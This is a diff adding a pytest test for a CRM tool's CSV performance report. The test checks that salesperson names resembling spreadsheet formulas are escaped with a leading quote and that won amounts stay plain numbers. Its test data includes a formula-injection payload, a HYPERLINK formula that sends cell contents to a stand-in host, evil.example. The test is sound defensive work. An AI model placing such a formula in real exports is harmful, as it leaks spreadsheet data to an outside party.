@@ -643,3 +643,50 @@ def test_render_csv_escapes_text_not_numbers() -> None:
     text = render_json(report)
     assert '"won_amount": -7.50' in text
     assert '"weighted_pipeline_amount": 0.00' in text
+
+
+def test_performance_csv_escapes_formula_names_and_keeps_amounts(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Salespeople named like formulas come out of ``report performance --format csv``
+    with a leading quote; their won amounts stay plain numbers."""
+    path = tmp_path / "formulas.sqlite3"
+    db = open_database(path).db
+    try:
+        ensure_initialized(db, locale="en")
+        admin = default_admin_id(db)
+        won = pipelines.get_pipeline(db).won_stage.id
+        names = {
+            '=HYPERLINK("http://evil.example/?"&A1,"click")': Decimal("1234.50"),
+            "@SUM(A1)": Decimal("99.95"),
+            "-Sales, East": Decimal("10.00"),
+        }
+        for i, (name, amount) in enumerate(names.items()):
+            user = users.create_user(db, by=admin, name=name, login=f"formula{i}").value
+            deal = deals.create_deal(
+                db,
+                by=admin,
+                title=name,
+                amount=amount,
+                owner_id=user.id,
+                created_at=NOW - timedelta(days=30),
+            ).value
+            deals.move_deal(
+                db, deal.id, won, by=admin, expected_version=deal.version, closed_at=NOW
+            )
+    finally:
+        db.dispose()
+
+    text = _report(capsys, f"sqlite:///{path}", "performance", "--format", "csv", *FIXED)
+    header, *rows = csv.reader(io.StringIO(text))
+    by_owner = {r[header.index("owner")]: dict(zip(header, r, strict=True)) for r in rows}
+    for name, amount in names.items():
+        assert name not in by_owner
+        row = by_owner["'" + name]
+        assert row["won_amount"] == str(amount)
+        assert row["won_count"] == "1"
+    team = by_owner["Team"]
+    assert team["won_amount"] == "1344.45"
+    for key in ("won_amount", "open_pipeline_amount", "weighted_pipeline_amount"):
+        assert all(not r[key].startswith("'") for r in by_owner.values()), key
+        assert all(Decimal(r[key]) >= 0 for r in by_owner.values()), key
